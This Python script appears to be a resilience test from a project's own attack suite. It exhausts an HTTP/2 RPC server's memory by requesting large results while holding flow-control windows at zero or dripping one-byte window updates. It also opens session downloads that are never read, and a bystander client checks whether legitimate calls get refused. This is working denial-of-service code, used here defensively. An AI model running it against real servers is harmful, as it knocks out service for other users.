"""Asks for large answers and does not take them: flow-control windows of nothing, of a byte, that open by a byte;
single calls, batches, sessions, health watches.

Cost: 93 bytes a call, without a deadline. Before: four such calls held all the memory of the device, for as long as
they liked.
"""

import struct
import time

import http2
import wire
from attack import Attack, Target, run
from sessions import Session


def answered_with(elements: int) -> bytes:
    return wire.execute(wire.l1_loss([elements], 0), [wire.floats(1.0)])


# The large ones take most, the others what is left.
REQUESTS = [answered_with(elements) for elements in (3 << 20, 1 << 18, 1 << 14, 1 << 10) for _ in range(25)]
BATCHES = [wire.batch([wire.l1_loss([60_000], 0)] * 60, [wire.floats(1.0)])] * 30


def ask(window: int, drip: bool, method: str, messages: list[bytes]):
    def attack(target: Target) -> None:
        connection = target.connect(target.index, window=window, refill=False)
        calls = [connection.start(method, message) for message in messages]
        until = time.monotonic() + target.seconds
        while time.monotonic() < until:
            connection.poll(0.05)
            if drip:
                connection.send(
                    b"".join(http2.frame(http2.WINDOW_UPDATE, 0, call.stream, struct.pack(">I", 1)) for call in calls)
                )
            time.sleep(0.1)

    return attack


def bystander(target: Target) -> None:
    """No attacker: another client, whose calls need 2 MiB each and are taken at once."""
    connection = target.connect(source=99, window=4 << 20)
    refused = 0
    for asked in range(1, 1000):
        refused += connection.unary("Execute", answered_with(1 << 19), seconds=2).status != 0
        if asked >= 8 and refused > asked // 2:
            return target.blame(f"{refused} of {asked} calls of another client refused, of 2 MiB each")
        time.sleep(0.05)


def sessions(target: Target) -> None:
    """Downloads that nobody takes."""
    connection = target.connect(target.index, window=0, refill=False)
    for _ in range(30):
        session = Session(connection).begin()
        session.allocate(1, 4 << 20)
        for _ in range(10):
            session.download(1, 4 << 20)
        session.send(wire.EXECUTE, wire.field(1, wire.l1_loss([1 << 20], 0)), [wire.floats(1.0)])
        connection.poll(0)
    time.sleep(target.seconds)


if __name__ == "__main__":
    run(
        Attack(
            [
                ask(0, False, "Execute", REQUESTS),
                ask(1, True, "Execute", REQUESTS),
                ask(0, False, "ExecuteBatch", BATCHES),
                sessions,
                bystander,
            ],
            rss_mib=600,
        )
    )
